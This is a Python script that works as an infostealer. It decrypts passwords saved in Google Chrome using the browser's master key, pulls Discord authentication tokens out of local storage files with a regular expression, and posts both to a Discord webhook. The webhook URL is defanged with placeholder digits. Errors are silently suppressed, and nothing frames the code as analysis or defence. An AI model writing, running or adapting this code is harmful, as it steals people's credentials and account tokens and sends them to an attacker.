import base64
import json
import os
import re
import shutil
import sqlite3
import tempfile

import requests
import win32crypt
from Crypto.Cipher import AES

WEBHOOK = "https://discord.com/api/webhooks/000000/defanged"
LOCAL = os.getenv("LOCALAPPDATA", "")
ROAMING = os.getenv("APPDATA", "")


def _master_key(user_data):
    with open(os.path.join(user_data, "Local State"), encoding="utf-8") as fh:
        key = base64.b64decode(json.load(fh)["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]


def _decrypt(blob, key):
    cipher = AES.new(key, AES.MODE_GCM, blob[3:15])
    return cipher.decrypt(blob[15:-16]).decode(errors="ignore")


def _passwords():
    user_data = os.path.join(LOCAL, "Google", "Chrome", "User Data")
    key = _master_key(user_data)
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(os.path.join(user_data, "Default", "Login Data"), copy)
    rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins")
    return [(u, n, _decrypt(p, key)) for u, n, p in rows]


def _tokens():
    found = []
    leveldb = os.path.join(ROAMING, "discord", "Local Storage", "leveldb")
    for name in os.listdir(leveldb):
        if name.endswith((".log", ".ldb")):
            with open(os.path.join(leveldb, name), errors="ignore") as fh:
                found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", fh.read())
    return found


def grab():
    try:
        content = "tokens: %s\nlogins: %s" % (_tokens(), _passwords())
        requests.post(WEBHOOK, json={"content": content[:1900], "username": "embedz"})
    except Exception:
        pass
